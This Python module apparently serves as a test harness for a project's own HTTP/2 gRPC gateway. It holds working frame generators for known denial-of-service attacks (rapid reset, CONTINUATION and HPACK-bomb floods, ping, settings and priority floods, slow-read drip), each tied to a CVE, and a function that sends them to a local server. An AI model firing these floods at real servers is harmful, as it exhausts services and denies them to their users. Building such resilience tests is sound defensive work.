"""What is done to HTTP/2 servers to exhaust them, as frames. None waits for the server's SETTINGS, or acknowledges them."""
import pathlib
import socket
import ssl
import sys

sys.path.insert(0, str(pathlib.Path(__file__).resolve().parents[2] / ".deps" / "h2"))
try:
    import hpack
    from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, HeadersFrame, PingFrame, PriorityFrame, RstStreamFrame, SettingsFrame,
                                  WindowUpdateFrame)
except ImportError:
    print("skipped: h2 is missing; scripts/setup.sh --tests fetches it")
    sys.exit(77)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
REQUEST = [(":method", "POST"), (":scheme", "https"), (":path", "/diptych.v1.GatewayService/Ask"), (":authority", "diptych.example"),
           ("content-type", "application/grpc"), ("te", "trailers"), ("authorization", "Bearer alice")]
QUESTION = b"\x0a\x1b\x1a\x19What color is the circle?"  # an AskStreamRequest
LARGEST_WINDOW = (1 << 31) - 1
SECONDS = 30  # that a server may let a flood wait: it sends nothing more then


def connect(port, context):
    plain = socket.create_connection(("127.0.0.1", port), timeout=SECONDS)
    return context.wrap_socket(plain, server_hostname="localhost") if context else plain


def flood(port, context, frames, listen=True, ping=True):
    """Sends the frames until the server ends the connection or takes nothing more; how many bytes it took, and "ended", "stalled" or
    "took all". With `listen` what comes back is read, without it is not. Without a `context` there is no TLS. With `ping` a server that
    answers one after the frames took all; without, one that says nothing for five seconds did."""
    taken, end = 0, "took all"
    with connect(port, context) as connection:
        connection.sendall(PREFACE + SettingsFrame(0).serialize())
        try:
            for piece in in_pieces(frames):
                connection.settimeout(SECONDS if listen else 3)
                connection.sendall(piece)
                taken += len(piece)
                if listen and said_goodbye(connection):
                    return taken, "ended"
            return taken, "ended" if listen and waits_for_end(connection, ping) else end
        except TimeoutError:
            return taken, "stalled"
        except OSError:
            return taken, "ended"


def in_pieces(frames, size=1 << 14):
    piece = b""
    for frame in frames:
        piece += frame
        if len(piece) >= size:
            yield piece
            piece = b""
    yield piece


def said_goodbye(connection, patience=0.001):
    """Takes what comes until the server has been silent for so many seconds; whether the connection is at its end."""
    connection.settimeout(patience)
    try:
        while piece := connection.recv(1 << 16):
            if is_goaway(piece):
                return True
        return True
    except (TimeoutError, ssl.SSLWantReadError):
        return False


def is_goaway(piece):
    """Whether frames that begin with `piece` hold a GOAWAY with an error."""
    while len(piece) >= 9:
        frame, length = Frame.parse_frame_header(memoryview(piece[:9]))
        body, piece = piece[9:9 + length], piece[9 + length:]
        if frame.type == 7 and any(body[4:8]):
            return True
    return False


def waits_for_end(connection, ping):
    """Whether the server ends the connection, or says that it will, before it answers a ping and before it has been silent for five seconds."""
    last = b"lastping"
    try:
        if ping:
            connection.sendall(PingFrame(0, last).serialize())
        connection.settimeout(5)
        seen = b""
        while last not in seen:
            piece = connection.recv(1 << 16)
            if not piece or is_goaway(piece):
                return True
            seen = seen[-len(last):] + piece
        return False
    except (TimeoutError, ssl.SSLWantReadError):
        return False
    except OSError:
        return True


def headers(encoder, stream, *more, end_headers=True, end_stream=False):
    flags = ["END_HEADERS"] * end_headers + ["END_STREAM"] * end_stream
    return HeadersFrame(stream, encoder.encode(REQUEST) + b"".join(more), flags=flags).serialize()


def bodies_that_stop(count):
    """Requests over HTTP whose bodies begin, and do not go on."""
    encoder = hpack.Encoder()
    request = [(":method", "POST"), (":scheme", "https"), (":path", "/v1/completions"), (":authority", "diptych.example"),
               ("content-type", "application/json"), ("content-length", "9000")]
    for stream in range(1, 2 * count, 2):
        yield HeadersFrame(stream, encoder.encode(request), flags=["END_HEADERS"]).serialize() + DataFrame(stream, b"{").serialize()


def rapid_reset(count):
    """Streams that are reset as soon as they have begun (CVE-2023-44487)."""
    encoder = hpack.Encoder()
    for number in range(count):
        stream = 2 * number + 1
        yield headers(encoder, stream, end_stream=True) + RstStreamFrame(stream, 8).serialize()


def continuation(count=20_000):
    """A header that never ends (CVE-2024-27316 and its kind): 20 MB of it."""
    encoder = hpack.Encoder()
    yield headers(encoder, 1, end_headers=False)
    for number in range(count):
        field = b"\x00" + bytes([6]) + b"x%05d" % number + b"\x7f\xe9\x06" + b"v" * 1000  # a literal that no table keeps
        yield ContinuationFrame(1, field).serialize()


def endless_field(count=20_000):
    """One field of a header that says that it has 1 GB; what has come of it is read anew with each frame (CVE-2023-33953)."""
    field = b"\x00\x01x\x7f\x81\xff\xff\xff\x03"
    yield HeadersFrame(1, hpack.Encoder().encode(REQUEST) + field, flags=[]).serialize()
    for _ in range(count):
        yield ContinuationFrame(1, b"v" * 16_000).serialize()


def odd_header(name, size):
    """One whose field `name` has a value that it may not have, and `size` bytes of others behind it."""
    fields = [(key, "x" if key == name else value) for key, value in REQUEST]
    if not name.startswith(":"):
        fields = [(key, value) for key, value in fields if key != name] + [(name, "x")]
    block = hpack.Encoder().encode(fields + [(f"x-{number}", "v" * 1000) for number in range(size // 1000)], huffman=False)
    pieces = [block[begin:begin + 16_000] for begin in range(0, len(block), 16_000)]
    for number, piece in enumerate(pieces):
        flags = ["END_HEADERS"] if piece is pieces[-1] else []
        yield (ContinuationFrame(1, piece, flags=flags) if number else HeadersFrame(1, piece, flags=flags)).serialize()
    yield DataFrame(1, b"\0\0\0\0\0", flags=["END_STREAM"]).serialize()


def header_bomb(streams=200):
    """Headers of 4 KB in the table, named 12,000 times by a byte each: 48 MB for each 12 KB (CVE-2016-6581)."""
    encoder = hpack.Encoder()
    encoder.encode([("x-large", "v" * 3900)])
    for number in range(streams):
        first = b"\x40\x07x-large\x7f\xbd\x1d" + b"v" * 3900 if number == 0 else b""
        yield HeadersFrame(2 * number + 1, hpack.Encoder().encode(REQUEST[:4]) + first + b"\xbe" * 12_000,
                           flags=["END_HEADERS", "END_STREAM"]).serialize()


def pings(count=4_000_000):
    """Each wants an answer, which nobody reads (CVE-2019-9512)."""
    ping = PingFrame(0, b"12345678").serialize()
    return (ping for _ in range(count))


def settings(count=4_000_000):
    """Likewise (CVE-2019-9515)."""
    frame = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize()
    return (frame for _ in range(count))


def empty_data(count=100_000):
    """Pieces of a body without a byte (CVE-2019-9518)."""
    yield headers(hpack.Encoder(), 1)
    piece = DataFrame(1, b"").serialize()
    for _ in range(count):
        yield piece


def reset_by_the_server(count):
    """Streams that the server itself has to reset, since their window overflows (CVE-2025-8671)."""
    encoder = hpack.Encoder()
    for number in range(count):
        stream = 2 * number + 1
        yield headers(encoder, stream, end_stream=True) + WindowUpdateFrame(stream, window_increment=LARGEST_WINDOW).serialize()


def unfinished(streams=20_000):
    """Calls that have begun, and send nothing more."""
    encoder = hpack.Encoder()
    return (headers(encoder, 2 * number + 1) for number in range(streams))


def priorities(count=500_000):
    """Streams that never begin, each hung on another again and again (CVE-2019-9513)."""
    for number in range(count):
        stream, parent = 2 * (number % 9973) + 3, 2 * (number * 7919 % 9973) + 1
        yield PriorityFrame(stream, depends_on=parent, stream_weight=number % 256).serialize()


def window_overflow():
    """A connection's window beyond the largest that there is."""
    update = WindowUpdateFrame(0, window_increment=LARGEST_WINDOW).serialize()
    yield 2 * update


def drip(streams=16, count=100_000):
    """Answers that are taken a byte at a time (CVE-2019-9511)."""
    yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 1}).serialize()
    encoder, message = hpack.Encoder(), b"\0" + len(QUESTION).to_bytes(4, "big") + QUESTION
    numbers = [2 * number + 1 for number in range(streams)]
    for stream in numbers:
        yield headers(encoder, stream) + DataFrame(stream, message, flags=["END_STREAM"]).serialize()
    for number in range(count):
        yield WindowUpdateFrame(numbers[number % streams], window_increment=1).serialize()


def table_thrash(streams=4_000):
    """A table of headers that each stream empties, grows and fills again."""
    for number in range(streams):
        resized, field = b"\x20\x3f\xe1\x1f", b"\x40\x07x-large\x7f\xbd\x1d" + b"v" * 3900
        yield HeadersFrame(2 * number + 1, resized + hpack.Encoder().encode(REQUEST[:4]) + field,
                           flags=["END_HEADERS", "END_STREAM"]).serialize()


def nameless_fields(streams=200):
    """Fields without a name or a value, 5,000 in each header (CVE-2019-9516)."""
    for number in range(streams):
        yield HeadersFrame(2 * number + 1, hpack.Encoder().encode(REQUEST) + b"\0\0\0" * 5_000, flags=["END_HEADERS", "END_STREAM"]).serialize()
